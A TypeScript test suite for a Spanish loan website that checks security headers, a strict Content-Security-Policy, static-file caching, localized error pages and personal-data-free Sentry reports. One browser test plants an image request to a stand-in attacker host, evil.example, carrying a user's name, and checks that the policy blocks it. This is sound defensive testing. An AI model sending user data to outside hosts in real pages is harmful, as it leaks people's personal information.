import { once } from 'node:events';
import { type IncomingMessage, request } from 'node:http';
import { text } from 'node:stream/consumers';
import { barePolicy, securityHeaders } from '@plaza/page-cache/server';
import { crawler, openSentryEndpoint, person, type SentryEndpoint, until } from '@plaza/testing';
import { sharedBrowser } from '@plaza/testing/vitest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sharedEnvironment } from '../environment/fixtures.ts';
import { type LostSite, openLostSite } from '../environment/lost-site.ts';
import { signRevalidation } from '../environment/sign-revalidation.ts';
import { esLoans, refused as refusing } from './es-loans.ts';

const environment = sharedEnvironment(esLoans);
const browser = sharedBrowser();
let lost: LostSite;
let sentry: SentryEndpoint;
beforeAll(async () => {
  sentry = await openSentryEndpoint();
  lost = await openLostSite(esLoans, { env: { SENTRY_DSN: sentry.dsn } });
});
afterAll(async () => {
  await lost?.close();
  await sentry?.close();
});

type Asked = { method?: string; headers?: Record<string, string>; body?: string };

/** A request whose request line is sent unchanged, by default to the shared site. */
async function send(
  path: string,
  { method = 'GET', headers, body }: Asked = {},
  site = environment().site,
) {
  const { hostname, port } = new URL(site);
  const sent = request({
    hostname,
    port,
    method,
    path,
    headers: { 'user-agent': person, ...headers },
  });
  sent.end(body);
  const [answer] = (await once(sent, 'response')) as [IncomingMessage];
  const { statusCode, statusMessage, headers: answered } = answer;
  return {
    status: statusCode,
    statusText: statusMessage,
    headers: answered,
    body: await text(answer),
  };
}

type Answer = Awaited<ReturnType<typeof send>>;

async function stylesheet(): Promise<string> {
  const { body } = await send('/');
  return /href="(\/_next\/static\/[^"]+\.css)"/.exec(body)?.[1] ?? 'no style sheet';
}

const json = { 'content-type': 'application/json' };
const report = { 'content-type': 'application/csp-report' };
const violation = JSON.stringify({
  'csp-report': { 'document-uri': 'a', 'violated-directive': 'b' },
});

/** Every kind of response of the site, with its status. */
const kinds: [kind: string, status: number, ask: () => Promise<Answer>][] = [
  ['a page', 200, () => send('/')],
  ['a page from memory', 200, () => send('/')],
  ['a page with a tracking alias', 200, () => send('/?gclid=1')],
  ['the head of a page', 200, () => send('/', { method: 'HEAD' })],
  [
    'an unchanged page',
    304,
    async () => {
      const { headers } = await send('/');
      return send('/', { headers: { 'if-none-match': String(headers.etag) } });
    },
  ],
  ['flight data by a wrong address', 307, () => send('/lp/?_rsc=1', { headers: { rsc: '1' } })],
  ['OPTIONS on a page', 405, () => send('/', { method: 'OPTIONS' })],
  ['a path that is not there', 404, () => send('/no-hay-nada/')],
  ['a path that cannot be read', 404, () => send('/%ff')],
  [
    'a body that no page reads',
    405,
    () => send('/', { method: 'GET', headers: { 'content-length': '3' }, body: 'a=b' }),
  ],
  ['a method that no page knows', 405, () => send('/', { method: 'POST', body: 'a=b' })],
  ['a missing slash', 308, () => send('/lp')],
  ['a redirect of Next’s', 308, () => send('/consent-dialog/es-ES')],
  [
    'a call that is passed on before Next',
    400,
    () => send('/api/user-events', { method: 'POST', headers: json, body: '{' }),
  ],
  ['an internal path', 308, () => send('/es-ES/lp/')],
  ['a page that fails', 500, () => send('/', {}, lost.site)],
  [
    'a page that fails for a crawler',
    503,
    () => send('/', { headers: { 'user-agent': crawler } }, lost.site),
  ],
  ['an asset that is not there', 404, () => send('/_next/static/none.js')],
  ['a picture of nobody', 404, () => send(`/images/${'0'.repeat(32)}-1200x800/672/80.avif`)],
  ['a picture in no size of a page', 404, () => send(`/images/${'0'.repeat(32)}-9x9/7/80.avif`)],
  ['the sitemap', 200, () => send('/sitemap.xml')],
  ['robots.txt', 200, () => send('/robots.txt')],
  ['the manifest', 200, () => send('/manifest.webmanifest')],
  ['an icon', 200, () => send('/icon.svg')],
  ['the API', 200, () => send('/api/data/products?locale=es-ES')],
  ['a problem of the API', 404, () => send('/api/nothing-here')],
  ['an API without a service', 502, () => send('/api/data/products?locale=es-ES', {}, lost.site)],
  ['a method that the API knows not', 405, () => send('/api/livez', { method: 'DELETE' })],
  ['a live site', 200, () => send('/api/livez')],
  ['a ready site', 200, () => send('/api/readyz')],
  ['a site that has nothing', 503, () => send('/api/readyz', {}, lost.site)],
  ['a forged revalidation', 401, () => send('/api/revalidate', { method: 'POST', body: '{}' })],
  [
    'a revalidation',
    204,
    () =>
      send('/api/revalidate', {
        method: 'POST',
        ...signRevalidation({ secret: environment().secret, websiteId: 101 }),
      }),
  ],
  [
    'a report of the policy',
    204,
    () => send('/api/csp-reports', { method: 'POST', headers: report, body: violation }),
  ],
  [
    'a report that is none',
    400,
    () => send('/api/csp-reports', { method: 'POST', headers: json, body: '{' }),
  ],
];

describe('headers', () => {
  it.each(kinds)('%s (%i) has all security headers', async (_kind, status, ask) => {
    const { headers, ...answer } = await ask();
    expect(answer.status).toBe(status);
    for (const { key, value } of securityHeaders)
      expect([key, headers[key.toLowerCase()]]).toEqual([key, value]);
    expect(headers).not.toHaveProperty('x-powered-by');
    expect(headers).not.toHaveProperty('server');
    // Responses that a browser can show as a document have a policy.
    if (headers['content-type']?.includes('html')) expectPolicy(headers['content-security-policy']);
    else if (status !== 304) expectBarePolicy(headers);
    if (status === 404 || status >= 500) expect(headers['cache-control']).toMatch(/no-store/);
  });
});

/** The files of the front page, by kind. */
async function staticFiles(): Promise<string[]> {
  const { body } = await send('/');
  const script = /src="(\/_plaza\/[^"]+\.js)"/.exec(body)?.[1] ?? 'no script';
  const sheet = await stylesheet();
  const font = /url\(([^)]+\.woff2)/.exec((await send(sheet)).body)?.[1] ?? 'no font';
  return [script, sheet, new URL(font, `${environment().site}${sheet}`).pathname];
}

describe('design §6 static files', () => {
  it('are immutable, text in brotli, without unneeded headers', async () => {
    const answers = (await staticFiles()).map((path) =>
      send(path, { headers: { 'accept-encoding': 'gzip, br' } }),
    );
    for (const { status, headers } of await Promise.all(answers)) {
      expect(status).toBe(200);
      const isFont = headers['content-type'] === 'font/woff2';
      expect(headers['content-encoding']).toBe(isFont ? undefined : 'br');
      expect(headers).toMatchObject({
        'cache-control': 'public, max-age=31536000, immutable',
        'x-content-type-options': 'nosniff',
        'cross-origin-resource-policy': 'same-origin',
      });
      expect(JSON.stringify(headers).length).toBeLessThan(420);
    }
  });
});

/** Responses that are not pages allow nothing; an image has Next's own policy. */
function expectBarePolicy(headers: Answer['headers']): void {
  const isImage = headers['content-type']?.startsWith('image/') && headers.vary === 'Accept';
  if (!isImage) expect(headers['content-security-policy']).toBe(barePolicy);
}

/** Sources that are too broad for any page. */
const wide = /unsafe-inline|unsafe-eval|(^|[\s;])(\*|https?:|data:|blob:)([\s;]|$)/;

function expectPolicy(policy: string | string[] | undefined): void {
  expect(policy).toMatch(/^default-src 'none'; script-src /);
  expect(policy).not.toMatch(wide);
  expect(policy).toContain("frame-ancestors 'none'");
}

describe('§8 error pages have a status text', () => {
  it.each(['/no-hay-nada/', '/no-hay-nada/?gclid=1', '/%ff'])('%s is not found', async (path) => {
    const answer = await send(path);
    expect(answer).toMatchObject({ status: 404, statusText: 'Page Not Found' });
    expect(answer.body).toContain('>Página no encontrada</h1>');
  });

  it('a page that fails is an internal error', async () => {
    const answer = await send('/', {}, lost.site);
    expect(answer).toMatchObject({ status: 500, statusText: 'Internal Server Error' });
    expect(answer.body).toContain('>Error interno del servidor</h1>');
  });
});

describe('the policy of a page', () => {
  it('is enforced in a browser, which reports violations', async () => {
    const page = await browser().newPage(refusing);
    // Chromium sends `report-to` over https only, and then ignores `report-uri`.
    await page.route('**/lp/*', async (route) => {
      const response = await route.fetch();
      const policy = response.headers()['content-security-policy']?.replace('; report-to csp', '');
      const headers = { ...response.headers(), 'content-security-policy': policy ?? '' };
      await route.fulfill({ response, headers });
    });
    await page.goto(`${environment().site}/lp/?email=ana@correo.example`);
    const refused = await page.evaluate(() => {
      const image = new Image();
      const failed = new Promise((resolve) =>
        image.addEventListener('error', () => resolve('refused')),
      );
      image.src = 'https://evil.example/a.png?user=ana';
      return failed;
    });
    expect(refused).toBe('refused');
    const line = await until(
      () => /.*"csp-violation".*evil\.example.*/.exec(environment().siteLog())?.[0],
    );
    expect(JSON.parse(line)).toMatchObject({
      event: 'csp-violation',
      document: expect.stringMatching(/^http:.*\/lp\/$/),
      directive: 'img-src',
      blocked: expect.stringMatching(/^https:\/\/evil\.example/),
    });
    expect(line).not.toContain('ana');
    await page.close();
  });
});

describe('§8 a page that fails', () => {
  it('is the error page in the site’s language, without JavaScript, with status 500', async () => {
    const context = await browser().newContext({ javaScriptEnabled: false, userAgent: person });
    const page = await context.newPage();
    const response = await page.goto(`${lost.site}/100-euros/`);
    expect(response?.status()).toBe(500);
    expect(await page.locator('html').getAttribute('lang')).toBe('es-ES');
    expect(await page.locator('h1').textContent()).toBe('Error interno del servidor');
    expect(await page.locator('meta[name=robots]').getAttribute('content')).toContain('noindex');
    await context.close();
  });

  it('is reported in the Sentry protocol without personal data', async () => {
    const headers = { cookie: 'email=ana', 'x-forwarded-for': '203.0.113.7' };
    await send('/250-euros/?nota=ana@correo.example', { headers }, lost.site);
    await until(() =>
      sentry.items.some(({ payload }) => JSON.stringify(payload.request)?.includes('/250-euros/')),
    );
    for (const { type, payload } of sentry.items) {
      expect(type).toBe('event');
      expect(payload).toMatchObject({ platform: 'node', exception: { values: expect.anything() } });
    }
    expect(sentry.wire.join()).not.toMatch(/correo|203\.0\.113|Firefox|"cookies?"|"user"/);
  });
});
